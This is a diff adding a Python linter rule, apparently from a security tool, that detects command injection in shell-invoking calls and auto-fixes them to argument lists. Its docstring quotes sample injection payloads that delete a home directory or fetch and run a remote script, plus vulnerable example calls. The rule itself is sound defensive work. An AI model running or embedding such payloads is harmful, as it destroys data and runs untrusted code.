@@ -1,0 +1,233 @@
+"""Command injection: a shell command built from a non-literal value.
+
+## What it does
+Flags `os.system`, `os.popen`, `subprocess.getoutput`/`getstatusoutput`, `commands.getoutput`,
+`asyncio.create_subprocess_shell`, and `subprocess.run`/`call`/`check_call`/`check_output`/`Popen`
+with `shell=True`, when the command is not a literal string (directly, or through a variable
+assigned in the same function). Data from a web request raises the confidence.
+
+## Why is this bad?
+The shell interprets the whole string: a file name like `x; rm -rf ~` or `$(curl evil.sh | sh)`
+runs a second command with the program's rights. Quoting by hand is easy to get wrong; passing
+an argument list without a shell leaves nothing to interpret.
+
+## Example
+```python
+subprocess.run(f"convert {upload} -resize 50% thumb.png", shell=True)
+os.system("ping -c 1 " + host)
+```
+
+## Use instead
+```python
+subprocess.run(["convert", upload, "-resize", "50%", "thumb.png"], check=True)
+subprocess.run(["ping", "-c", "1", host], check=True)
+```
+The quick fix rewrites a `subprocess` call with `shell=True` to an argument list with
+`shell=False`, when the literal parts split into words without shell syntax (pipes, redirects,
+variables, globs) and each interpolated value is a whole word. A command built in a variable of
+the same function is rewritten together with the call, if the variable is used nowhere else.
+
+## References
+- [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
+- Bandit B602, B605, B609; Ruff S602, S605, S609
+"""
+
+from __future__ import annotations
+
+import re
+import shlex
+from collections.abc import Iterable
+
+import libcst as cst
+from tree_sitter import Node
+
+from landguard.checks.python import _support as py
+from landguard.engine.document import Document
+from landguard.engine.findings import Confidence, Finding, Fix, Severity
+from landguard.engine.registry import CheckContext, Rule
+from landguard.fixes.python_fixes import StatementEditor, call_with_keyword, parse_expression, string_parts
+
+RULE = Rule(
+    id="LG202",
+    name="command-injection",
+    title="Shell command built from a non-literal value",
+    severity=Severity.ERROR,
+    confidence=Confidence.MEDIUM,
+    cwe=(78,),
+    docs=__doc__,
+    languages=py.PYTHON,
+    aliases=("B602", "S602", "B605", "S605", "B609", "S609"),
+)
+
+_ALWAYS_SHELL = frozenset(
+    {
+        "os.system",
+        "os.popen",
+        "os.popen2",
+        "os.popen3",
+        "os.popen4",
+        "subprocess.getoutput",
+        "subprocess.getstatusoutput",
+        "commands.getoutput",
+        "commands.getstatusoutput",
+        "asyncio.create_subprocess_shell",
+    }
+)
+_SHELL_OPTIONAL = frozenset(
+    {
+        "subprocess.run",
+        "subprocess.call",
+        "subprocess.check_call",
+        "subprocess.check_output",
+        "subprocess.Popen",
+    }
+)
+_CALLEES = frozenset(name.rsplit(".", 1)[-1] for name in _ALWAYS_SHELL | _SHELL_OPTIONAL)
+# Literal text the fix may split into words: no pipes, redirects, variables, globs, escapes.
+_PLAIN_WORDS = re.compile(r"^[\w\s\-./:,@+=%'\"]*$")
+
+
+class CommandInjectionCheck(py.CallRule):
+    rule = RULE
+    callee_names = _CALLEES
+
+    def check_call(
+        self, call: Node, name: str, unit: Node, document: Document, context: CheckContext
+    ) -> Iterable[Finding]:
+        if name in _ALWAYS_SHELL:
+            via = f"`{name}` runs the command through a shell"
+        elif name in _SHELL_OPTIONAL:
+            shell = py.keyword_arg(call, "shell")
+            if shell is None or py.is_false(shell) or not (py.is_true(shell) or shell.type == "identifier"):
+                return
+            via = f"`{name}(..., shell=True)` runs the command through a shell"
+        else:
+            return
+        command = py.argument(call, 0, "cmd") or py.keyword_arg(call, "args")
+        if command is None or py.is_literal(command):
+            return
+        flow = self.flow_for(call, unit, context)
+        values = py.resolve(command, flow)
+        if all(py.is_literal(v) for v in values):
+            return  # a variable that holds a constant command
+        if command.type in ("list", "tuple") and name in _SHELL_OPTIONAL:
+            return  # an argument list: with shell=True only its first item is the command
+        build = py.string_building(command, flow)
+        imports = py.scope_imports(call, document, context)
+        taint = py.taint(command, flow, imports)
+        if taint == py.Taint.REQUEST:
+            confidence = Confidence.HIGH
+        elif build is not None or taint == py.Taint.PARAMETER:
+            confidence = Confidence.MEDIUM
+        else:
+            confidence = Confidence.LOW
+        fixes = []
+        if name in _SHELL_OPTIONAL and build is not None:
+            fix = _argument_list_fix(call, command, build, document, flow, context)
+            if fix is not None:
+                fixes.append(fix)
+        source = " from the web request" if taint == py.Taint.REQUEST else ""
+        yield RULE.finding(
+            document.node_span(call),
+            f"{via}, and the command is built from a value{source} that is not a literal; "
+            "pass an argument list without a shell",
+            confidence=confidence,
+            fixes=fixes,
+        )
+
+
+def argument_words(parts: list[str | tuple[str]], *, stringify: bool) -> list[str] | None:
+    """Python expressions, one per argument, for a command given as literal text and expressions.
+
+    ``stringify`` wraps values in ``str()``, as an f-string or ``%`` formatting did implicitly.
+    """
+    items: list[str | tuple[str]] = []
+    for part in parts:  # adjacent literals ("ls " + "-la") are one piece of text
+        if isinstance(part, str) and items and isinstance(items[-1], str):
+            items[-1] = items[-1] + part
+        else:
+            items.append(part)
+    # Quotes directly around a whole interpolated value only grouped it for the shell: drop them.
+    for index, item in enumerate(items):
+        if isinstance(item, tuple) and 0 < index < len(items) - 1:
+            before, after = items[index - 1], items[index + 1]
+            if isinstance(before, str) and isinstance(after, str) and before[-1:] in ("'", '"'):
+                if after[:1] != before[-1:]:
+                    return None
+                items[index - 1], items[index + 1] = before[:-1], after[1:]
+    words: list[str] = []
+    previous_ends_word = True
+    for index, item in enumerate(items):
+        if isinstance(item, tuple):
+            following = items[index + 1] if index + 1 < len(items) else ""
+            if not previous_ends_word or (
+                isinstance(following, str) and following[:1] and not following[0].isspace()
+            ):
+                return None  # glued to literal text (`--out={x}`): not a whole word
+            if not isinstance(following, str):
+                return None  # two values glued together
+            words.append(f"str({item[0]})" if stringify else item[0])
+            previous_ends_word = True
+            continue
+        if not _PLAIN_WORDS.match(item):
+            return None
+        try:
+            literal_words = shlex.split(item)
+        except ValueError:
+            return None
+        if item and not item[0].isspace() and index > 0:
+            return None  # literal text glued to the previous value
+        words.extend(f'"{word}"' if '"' not in word else repr(word) for word in literal_words)
+        previous_ends_word = not item or item[-1].isspace()
+    return words if words else None
+
+
+def _argument_list_fix(
+    call: Node, command: Node, build: py.StringBuild, document: Document, flow: py.Flow, context: CheckContext
+) -> Fix | None:
+    if py.has_star_args(call):
+        return None
+    if build.via is not None and not py.variable_only_feeds(command, build, flow, context):
+        return None  # the command string is used elsewhere too: rewriting it could break that use
+    parts = string_parts(document.node_text(build.node))
+    if parts is None:
+        return None
+    words = argument_words(parts.items, stringify=build.kind != "concat")
+    if words is None:
+        return None
+    argument_list = parse_expression("[" + ", ".join(words) + "]")
+    if argument_list is None:
+        return None
+    edits = []
+    if build.via is not None:
+        assignment_editor = StatementEditor.for_node(document, build.via.statement)
+        old_value = assignment_editor.locate(build.node, cst.BaseExpression) if assignment_editor else None
+        if assignment_editor is None or old_value is None:
+            return None
+        assignment_editor.replace(old_value, argument_list)
+        assignment_edit = assignment_editor.text_edit()
+        if assignment_edit is None:
+            return None
+        edits.append(assignment_edit)
+    editor = StatementEditor.for_node(document, call)
+    target = editor.locate(call, cst.Call) if editor else None
+    if editor is None or target is None or not target.args:
+        return None
+    first = target.args[0]
+    if first.keyword is not None:
+        return None
+    args = (
+        [first.with_changes(value=argument_list), *target.args[1:]]
+        if build.via is None
+        else list(target.args)
+    )
+    new_call = call_with_keyword(target.with_changes(args=args), "shell", cst.Name("False"))
+    editor.replace(target, new_call)
+    edit = editor.text_edit()
+    if edit is None:
+        return None
+    edits.append(edit)
+    return Fix("Pass an argument list without a shell (shell=False)", tuple(edits), preferred=True)
+
+
+HANDLER = CommandInjectionCheck()
